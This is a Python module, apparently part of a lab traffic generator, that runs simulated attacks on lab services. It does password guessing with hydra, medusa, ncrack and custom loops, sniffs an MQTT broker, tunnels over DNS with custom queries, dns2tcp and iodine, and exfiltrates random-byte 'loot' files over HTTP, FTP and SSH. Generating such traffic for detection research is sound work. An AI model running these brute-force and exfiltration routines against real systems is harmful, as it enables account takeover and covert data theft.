"""Guessing, tunnels and theft, by known tools and by a few lines of our own."""

from __future__ import annotations

import subprocess
from base64 import b32encode, b64encode
from collections.abc import Callable
from contextlib import suppress
from typing import Any

from evenflow.lab._steps import (
    fetch,
    ftp_login,
    http_connection,
    in_url,
    mqtt_connect,
    six,
    ssh,
)
from evenflow.lab.doing import Doing
from evenflow.lab.handlers import TAKES_PORT
from evenflow.lab.words import DOMAIN, GUESSES, TOPICS, USERS


def _words(d: Doing, most: float) -> list[str]:
    """Return guesses; at times, the right one is among them."""
    found = d.rng.sample(GUESSES, min(len(GUESSES), d.times(8, most)))
    if d.rng.random() < 0.3:
        found.insert(d.rng.randrange(len(found)), d.rng.choice(list(USERS.values())))
    d.note(guesses=len(found))
    return found


KINDS = {
    "ssh": ("ssh", "dropbear"), "ftp": ("ftp",), "http": ("nginx", "lighttpd"),
    "pop3": ("pop3",), "imap": ("imap",), "smtp": ("mail",), "telnet": ("telnet",),
}  # fmt: skip


def guess_by(tool: str, kind: str) -> Callable[[Doing], bool]:
    """Return guessing by hydra, medusa or ncrack."""

    def guess(d: Doing) -> bool:
        ip, port = d.service(*KINDS[kind])
        words = d.folder / "words"
        words.write_text("\n".join(_words(d, 60)) + "\n")
        user = d.rng.choice(list(USERS))
        at_once = d.rng.choice([1, 2, 4, 8, 16])
        d.note(at_once=at_once, user=user)
        commands = {
            "hydra": ["hydra", "-I", "-l", user, "-P", words, "-t", at_once, "-s", port,
                      "-W", d.rng.choice([1, 2, 3]), *six(ip), ip,
                      *({"http": ["http-get", "/private/"]}.get(kind, [kind]))],
            "medusa": ["medusa", "-h", ip, "-u", user, "-P", words, "-t", at_once,
                       "-n", port, "-M", kind,
                       *(["-m", "DIR:/private/"] if kind == "http" else [])],
            "ncrack": ["ncrack", "--user", user, "-P", words, "-g",
                       f"CL={at_once},at={d.rng.randint(1, 4)}",
                       f"{kind}://{ip}:{port}"],
        }  # fmt: skip
        d.run(*commands[tool], seconds=30)
        said = d.outputs[-1]
        return any(f in said for f in ("password: ", "ACCOUNT FOUND", "Discovered"))

    return guess


def own_guess(kind: str) -> Callable[[Doing], bool]:
    """Return guessing by a loop of our own, slow enough for any limit at times."""

    def guess(d: Doing) -> bool:
        ip, port = d.service(*KINDS[kind])
        user = d.rng.choice(list(USERS))
        rate = d.rate(0.15, 8 if kind == "ssh" else 40)
        found = False
        for word in _words(d, 90):
            if kind == "ssh":
                found = ssh(d, user, word, "true", ip, port) == 0
            elif kind == "ftp":
                found = bool(ftp_login(d, ip, port, user, word))
            else:
                w = http_connection(d, ip, port)
                found = (
                    fetch(d, w, "private/", keep=False, user=f"{user}:{word}") == 200
                )
            d.think(1 / rate)
            if found or d.is_over():
                break
        return found

    return guess


def in_one_connection(kind: str) -> Callable[[Doing], bool]:
    """Return guessing by a loop of our own: several tries in each connection."""

    def guess(d: Doing) -> bool:
        ip, port = d.service(*KINDS[kind])
        user = d.rng.choice(list(USERS))
        rate = d.rate(0.15, 30)
        per = d.rng.choice([1, 3, 10, 100])
        d.note(per_connection=per)
        words = _words(d, 90)
        for first in range(0, len(words), per):
            s = d.connect(ip, port)
            if s is None:
                return False
            with s, suppress(OSError):
                s.settimeout(8)
                lines = s.makefile("rb")
                _hear(lines, kind)
                for word in words[first : first + per]:
                    said = b""
                    for line in _lines(kind, user, word):
                        s.sendall(line)
                        said = _hear(lines, kind)
                    if said.startswith(RIGHT[kind]):
                        return True
                    if not said or d.is_over():
                        break
                    d.think(1 / rate)
            d.think(1 / rate)
            if d.is_over():
                break
        return False

    return guess


RIGHT = {"pop3": b"+OK", "imap": b"a OK", "smtp": b"235", "ftp": b"230",
         "telnet": b"Last"}  # fmt: skip


def _lines(kind: str, user: str, word: str) -> list[bytes]:
    """Return what is sent for one try."""
    plain = b64encode(f"\0{user}\0{word}".encode()).decode()
    text = {
        "pop3": f"USER {user}\nPASS {word}\n",
        "ftp": f"USER {user}\nPASS {word}\n",
        "imap": f"a LOGIN {user} {word}\n",
        "smtp": f"AUTH PLAIN {plain}\n",
        "telnet": f"{user}\n{word}\n",
    }[kind]
    return [line.encode() + b"\r\n" for line in text.splitlines()]


def _hear(lines: Any, kind: str) -> bytes:
    """Return the line that answers."""
    if kind == "telnet":
        return bytes(lines.read1(200).strip())
    while (line := lines.readline(1000)).startswith((b"*", b"250-")):
        if line.startswith(b"* OK"):
            break  # the greeting
    return bytes(line)


def slowly(kind: str) -> Callable[[Doing], bool]:
    """Return guessing that makes a try in many seconds, without end."""

    def guess(d: Doing) -> bool:
        ip, port = d.service(*KINDS[kind])
        user = d.rng.choice(list(USERS))
        rate = d.rate(0.04, 0.5)
        while not d.is_over():
            word = d.rng.choice(GUESSES)
            if kind == "ssh":
                ssh(d, user, word, "true", ip, port)
            elif kind == "ftp":
                ftp_login(d, ip, port, user, word)
            else:
                fetch(d, http_connection(d, ip, port), "private/", keep=False,
                      user=f"{user}:{word}")  # fmt: skip
            d.think(1 / rate)
        return False

    return guess


def mqtt_guess(d: Doing) -> bool:
    """Guess the password of a broker."""
    ip, port = d.service("broker")
    user, rate = d.rng.choice(list(USERS)), d.rate(0.3, 40)
    for word in _words(d, 90):
        if s := d.connect(ip, port):
            with s, suppress(OSError):
                s.sendall(mqtt_connect("sensor", user, word))
                if s.recv(4)[3:4] == b"\0":
                    return True
        d.think(1 / rate)
        if d.is_over():
            break
    return False


def mqtt_listen(d: Doing) -> bool:
    """Read along all that a broker passes on, again and again."""
    ip, port = d.service("mqtt")
    for _ in range(d.times(2, 8)):
        topic = d.rng.choice(["#", "$SYS/#", *TOPICS])
        d.run("mosquitto_sub", "-h", ip, "-p", port, "-t", topic, "-W",
              d.rng.randint(2, 15))  # fmt: skip
    return bool("".join(d.outputs).strip())


def own_tunnel(d: Doing) -> bool:
    """Carry data out in the names that are asked for."""
    rate = d.rate(0.5, 60)
    length = d.rng.choice([20, 35, 55])
    kind = d.rng.choice([1, 16, 28])
    d.note(length=length, kind=kind)
    found = 0
    for i in range(d.times(40, 400)):
        label = b32encode(d.rng.randbytes(length)).decode().strip("=").lower()
        name = ".".join([label[:60], *([label[60:]] if label[60:] else [])])
        found += d.look_up(f"{name}.{i:x}.x.{DOMAIN}", kind)
        d.think(1 / rate)
        if d.is_over():
            break
    return found > 0


def one_port_tunnel(d: Doing) -> bool:
    """Carry data out in names, all asked for from one port."""
    at = d.service("dns", "dns2", "names", "tunnel")
    rate = d.rate(0.5, 60)
    length = d.rng.choice([12, 35, 55, 100])
    kind = d.rng.choice([1, 5, 10, 15, 16])
    d.note(length=length, kind=kind)
    found = 0
    with d.udp() as here:
        here.settimeout(0.5)
        here.connect(at)
        for i in range(d.times(40, 800)):
            word = b32encode(d.rng.randbytes(length)).decode().strip("=").lower()
            labels = [word[n : n + 60] for n in range(0, len(word), 60)]
            with suppress(OSError):
                here.send(d.question(f"{'.'.join(labels)}.{i:x}.x.{DOMAIN}", kind))
                found += bool(here.recv(2000))
            d.think(1 / rate)
            if d.is_over():
                break
    return found > 0


def dns2tcp(d: Doing) -> bool:
    """Tunnel a connection through name look-ups by dns2tcp."""
    ip, _ = d.service("dns2tcp")
    local = 21_000 + d.rng.randrange(1000)
    d.note(kind=(kind := d.rng.choice(["TXT", "KEY"])))
    with subprocess.Popen(
        ["dns2tcpc", "-z", f"u.{DOMAIN}", "-k", "lab", "-r", "files", "-l", str(local),
         "-T", kind, ip],
        stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
    ) as tool:  # fmt: skip
        d.pause(3)
        found = 0
        size, wait = d.rng.choice([40, 300, 1500]), d.between(0.05, 1)
        if s := d.connect("127.0.0.1", local):
            with s, suppress(OSError):
                for _ in range(d.times(5, 60)):
                    s.sendall(d.rng.randbytes(size))
                    found += bool(s.recv(2000))
                    d.think(wait)
                    if d.is_over():
                        break
        tool.kill()
    return found > 0


def iodine(d: Doing) -> bool:
    """Tunnel a connection through name look-ups by iodine."""
    ip, _ = d.service("tunnel")
    inner = (
        f"ping -q -c {d.rng.randint(3, 60)} -i {d.between(0.1, 1):.2f} "
        f"-s {d.rng.choice([56, 400, 900])} "
    )
    copy = f"curl -sm 15 -T {d.folder}/f http://172.31.255.1:{TAKES_PORT}/; "
    (d.folder / "f").write_bytes(d.rng.randbytes(int(d.between(500, 6e4))))
    d.run(
        "sh", "-c",
        f"iodine -f -P lab -r -T {d.rng.choice(['NULL', 'TXT', 'CNAME', 'MX', 'SRV'])} "
        f"-I {d.rng.choice([1, 4, 20])} -L {d.rng.choice([0, 1])} "
        f"-d tun9 {ip} t.{DOMAIN} & p=$!; sleep 5; {inner} 172.31.255.1; r=$?; {copy}"
        f"sleep {d.rng.choice([0, 5, 20])}; kill $p; wait $p; exit $r", seconds=50,
    )  # fmt: skip
    return "bytes from" in d.outputs[-1] or " 0% packet loss" in d.outputs[-1]


def carry_out(how: str) -> Callable[[Doing], bool]:
    """Return the theft of files: by HTTP, FTP or SSH, at once or in pieces."""

    def carry(d: Doing) -> bool:
        pieces = d.times(1, 40)
        path = d.folder / "loot"
        path.write_bytes(d.rng.randbytes(int(d.between(3e4, 3e6) / pieces) + 500))
        ip, port = d.service({"http": "api", "ftp": "ftp", "ssh": "ssh"}[how])
        wait = d.between(0.05, 3)
        d.note(pieces=pieces, wait=round(wait, 3))
        user, word = d.rng.choice(list(USERS.items()))
        done = 0
        for i in range(pieces):
            if how == "http":
                done += d.run("curl", "-s", "-o", "/dev/null",
                              "--data-binary", f"@{path}",
                              f"http://{in_url(ip)}:{port}/c/{i}") == 0  # fmt: skip
            elif how == "ftp":
                done += d.run("curl", "-s", "-T", path, "-u",
                              f"{user}:{word}",
                              f"ftp://{in_url(ip)}:{port}/loot{i % 9}",
                              ) == 0  # fmt: skip
            else:
                d.run("sh", "-c", f"sshpass -p '{word}' ssh -p {port} -F /dev/null "
                      "-o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null "
                      f"{user}@{ip} 'cat > /dev/null' < {path}")  # fmt: skip
                done += 1
            d.think(wait)
            if d.is_over():
                break
        return done > 0

    return carry
